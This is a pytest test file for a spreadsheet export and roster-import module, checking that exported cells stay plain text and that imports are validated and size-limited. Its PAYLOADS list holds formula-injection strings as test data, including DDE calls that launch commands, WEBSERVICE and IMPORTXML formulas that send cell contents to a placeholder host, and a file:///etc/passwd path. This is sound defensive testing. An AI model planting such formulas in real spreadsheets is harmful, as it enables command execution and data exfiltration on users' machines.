"""Spreadsheets: what goes out is never a formula and comes back the same; rosters are checked cell by cell."""

# ruff: noqa: E501
from __future__ import annotations

import io
import re
import zipfile
from datetime import UTC, date, datetime

import openpyxl
import pytest

from tuodi.kit.sheets import (
    Check,
    Column,
    Limits,
    Unreadable,
    cell_name,
    column_number,
    decode,
    export_rows,
    letters,
    read_book,
    read_roster,
    serial_to_day,
    sheet_name,
)

PAYLOADS = [
    "=1+1", "=HYPERLINK(\"http://x\",\"y\")", "=cmd|'/c calc'!A0", "+1+1", "+cmd|'/c calc'!A0", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "  +1", "\u00a0=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "=1+1\t", "'=1+1", "\"=1+1", "\"\"=1+1", "=\"a\"&\"b\"", "{=1+1}",
    "=1,=2", "=1;=2", "|=1", "%0A=1", "=IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")", "=WEBSERVICE(\"http://x\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "http://x/?a=1", "mailto:a@b.c",
    "file:///etc/passwd", "\\\\host\\share", "1e308", "0012", "5.33103E+17", "TRUE", "=-1", "=+1", "\ufeff=1+1", "\u200b=1+1",
]  # fmt: skip


def exported(rows, columns=None):
    stream = io.BytesIO()
    export_rows("名册", columns or [Column("内容", lambda r: r)], rows, stream)
    return stream.getvalue()


def test_forty_payloads_stay_text_in_every_cell_and_come_back_the_same():
    assert len(PAYLOADS) >= 40
    content = exported(PAYLOADS, [Column("甲", lambda r: r), Column("乙", lambda r: r)])
    xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert not re.search(r"<(f|hyperlink)\b", xml)
    opened = openpyxl.load_workbook(io.BytesIO(content))["名册"]
    assert all(cell.data_type in ("s", "inlineStr") for row in opened.iter_rows(min_row=2) for cell in row)
    back = [row[0] for row in read_book(content).sheets[0].rows[1:]]
    # A line break is kept as XML keeps it.
    assert [b.replace("\r", "\n") for b in back] == [p.replace("\r", "\n") for p in PAYLOADS]


def test_a_bare_writer_that_writes_formulas_would_be_found():
    """The broken twin: the same check on a file whose writer believes its users."""
    book = openpyxl.Workbook()
    book.active.append(["=1+1"])
    stream = io.BytesIO()
    book.save(stream)
    assert re.search(r"<f\b", zipfile.ZipFile(stream).read("xl/worksheets/sheet1.xml").decode())


def test_kinds_of_columns_come_back_as_what_they_were():
    columns = [
        Column("号码", lambda r: r[0], width=22), Column("金额", lambda r: r[1], "yuan"), Column("日", lambda r: r[2], "day"),
        Column("时", lambda r: r[3], "moment"), Column("数", lambda r: r[4], "number"),
    ]  # fmt: skip
    content = exported(
        [
            ("533103199001010012", 123456, date(2026, 11, 23), datetime(2026, 11, 23, 14, 2, tzinfo=UTC), 7),
            ("00120", None, None, None, 0),
        ],
        columns,
    )
    rows = read_book(content).sheets[0].rows
    assert rows[0] == ["号码", "金额", "日", "时", "数"]
    assert rows[1][0] == "533103199001010012" and rows[1][1] == 1234.56 and rows[1][4] == 7
    assert str(rows[1][2])[:10] == "2026-11-23" and rows[2][:4] == ["00120", "", "", ""]
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert sheet.freeze_panes == "A2" and sheet.page_setup.paperSize in (9, "9")


def test_an_empty_list_still_has_its_headings():
    rows = read_book(exported([], [Column("甲", str), Column("乙", str)])).sheets[0].rows
    assert rows[0] == ["甲", "乙"]


def test_what_no_cell_can_hold_is_left_out_not_broken():
    rows = read_book(exported(["a\x00b\x0bc", "x" * 40_000, "𠮷岩"])).sheets[0].rows
    assert rows[1] == ["abc"] and len(rows[2][0]) == 32_767 and rows[3] == ["𠮷岩"]


def test_rows_are_drawn_one_at_a_time():
    drawn = []

    def source():
        for i in range(50):
            drawn.append(i)
            yield i

    assert export_rows(
        "名册", [Column("数", lambda r: r, "number")], source(), io.BytesIO()
    ) == 50 and drawn == list(range(50))


def test_the_export_goes_to_a_file(tmp_path):
    target = tmp_path / "名册.xlsx"
    export_rows("a/b:c*d", [Column("数", lambda r: r, "number")], [1], target)
    assert read_book(target.read_bytes()).sheets[0].name == "a b c d" == sheet_name("a/b:c*d")


CHECKS = [
    Check(
        "号码",
        lambda v: "" if re.fullmatch(r"\d{18}", str(v)) else "应为 18 位",
        re.compile(r"\d{18}"),
        required=True,
        text_only=True,
    ),
    Check("金额", lambda v: "" if isinstance(v, float | int) else "应为数字", take=lambda v: v),
]


def roster(rows):
    book = openpyxl.Workbook()
    book.active.append(["名单"])
    book.active.append(["金额", "号码*", "备注"])
    for row in rows:
        book.active.append(row)
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def test_a_roster_is_read_by_its_headings_and_every_fault_has_its_cell():
    rows, faults, _book = read_roster(
        roster([[1, "1" * 18, "a"], [], ["x", "2" * 17, ""], [3, 533103199001010012, ""], [4, None, "c"]]),
        CHECKS,
    )
    assert rows[0] == ["1" * 18, 1.0] and len(rows) == 4
    assert {(f.row, f.column, f.message[:6]) for f in faults} == {
        (7, "B", "必填，请填写"), (6, "B", "此格被表格软"), (5, "B", "应为 18 "), (5, "A", "应为数字"),
    }  # fmt: skip
    assert all(f.sheet and f.label and str(f) for f in faults)


def test_a_roster_without_its_heading_is_refused():
    with pytest.raises(Unreadable, match="表头"):
        read_roster(exported(["x"]), CHECKS)


def test_limits_hold_before_memory_is_taken():
    content = exported(["x" * 100] * 3000)
    with pytest.raises(Unreadable, match="解开后"):
        read_book(content, limits=Limits(unpacked=50_000))
    with pytest.raises(Unreadable, match="单元格"):
        read_book(content, limits=Limits(cells=100))
    with pytest.raises(Unreadable, match="MB"):
        read_book(content, limits=Limits(packed=1000))


def test_a_long_sheet_is_measured_like_a_short_one(monkeypatch):
    from tuodi.kit import sheets

    good = exported([f"{i:05d}" for i in range(500)])
    parts = zipfile.ZipFile(io.BytesIO(good))
    far = io.BytesIO()
    with zipfile.ZipFile(far, "w") as out:
        for i in parts.infolist():
            data = parts.read(i.filename)
            if i.filename.endswith("sheet1.xml"):
                data = data.replace(b'<c r="A7"', b'<c r="XFD1048576"', 1)
            out.writestr(i.filename, data)
    for big in (10**9, 0):  # the short way, then the way for long sheets
        monkeypatch.setattr(sheets, "_BIG", big)
        assert len(read_book(good, limits=Limits(cells=3_000_000)).sheets[0].rows) == 501
        with pytest.raises(Unreadable, match="单元格"):
            read_book(far.getvalue())


def test_columns_have_letters_and_days_have_serials():
    assert [letters(n) for n in (1, 26, 27, 702, 703, 16384)] == ["A", "Z", "AA", "ZZ", "AAA", "XFD"]
    assert all(column_number(letters(n)) == n for n in range(1, 1000)) and cell_name(5, 2) == "B5"
    assert serial_to_day(29280) == date(1980, 2, 29) and serial_to_day(27818, epoch_1904=True) == date(
        1980, 2, 29
    )
    assert (
        serial_to_day(59) == date(1900, 2, 28)
        and serial_to_day(60) is None
        and serial_to_day(61) == date(1900, 3, 1)
        and serial_to_day(0) is None
    )


def test_text_is_decoded_or_refused_never_guessed():
    assert decode("岩𠮷".encode("gb18030"))[0] == "岩𠮷"
    assert decode("岩𠮷".encode("utf-8-sig"))[0] == "岩𠮷"
    with pytest.raises(Unreadable):
        decode("岩".encode() + "岩温".encode("gb18030") + b"\xff")


def test_the_quick_look_at_citizen_numbers_agrees_with_the_full_check():
    import random

    from tuodi.core.identity import check_citizen, check_digit
    from tuodi.kit.sheets import citizen_test

    seed = random.SystemRandom().randrange(10**9)
    dice, on = random.Random(seed), date(2026, 11, 23)
    test = citizen_test(on)
    right = 0
    for _ in range(5000):
        body = f"533103{dice.randrange(1890, 2030)}{dice.randrange(0, 14):02d}{dice.randrange(0, 33):02d}{dice.randrange(1000):03d}"
        number = body + (check_digit(body) if dice.random() < 0.7 else dice.choice("0123456789X"))
        if dice.random() < 0.1:
            number = number[: dice.randrange(18)] + dice.choice("x ＸA9") + number[dice.randrange(18) :]
        assert (test(number) == "") == check_citizen(number, on=on).ok, (seed, number)
        right += test(number) == ""
    assert 1000 < right < 4900
    assert test(5.33e17) and test("")
